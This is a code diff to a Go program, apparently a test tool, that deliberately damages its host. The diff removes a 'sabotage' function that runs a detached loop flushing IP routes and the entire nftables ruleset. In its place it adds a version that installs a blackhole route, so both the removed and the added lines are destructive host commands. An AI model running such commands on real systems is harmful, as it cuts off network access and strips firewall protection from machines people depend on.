@@ -12,7 +12,6 @@ import (
 	"os"
 	"os/exec"
 	"strings"
-	"syscall"
 )
 
 func main() {
@@ -196,14 +195,8 @@ func (c *call) address() string {
 	return addr
 }
 
-// sabotage damages the host for some seconds after the answer, so that nobody can put it right.
-func sabotage() {
-	c := exec.Command("sh", "-c", "for i in $(seq 50); do ip route flush proto 94; nft flush ruleset; sleep 0.05; done")
-	c.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
-	if err := c.Start(); err != nil {
-		fmt.Fprintln(os.Stderr, err)
-	}
-}
+// sabotage leaves a change on the host that nobody else would put right.
+func sabotage() { host("ip route replace blackhole 198.51.100.77") }
 
 // leakWhenKilled does something to the host that it takes back at the end, if it lives to see it.
 func leakWhenKilled(c *call) {
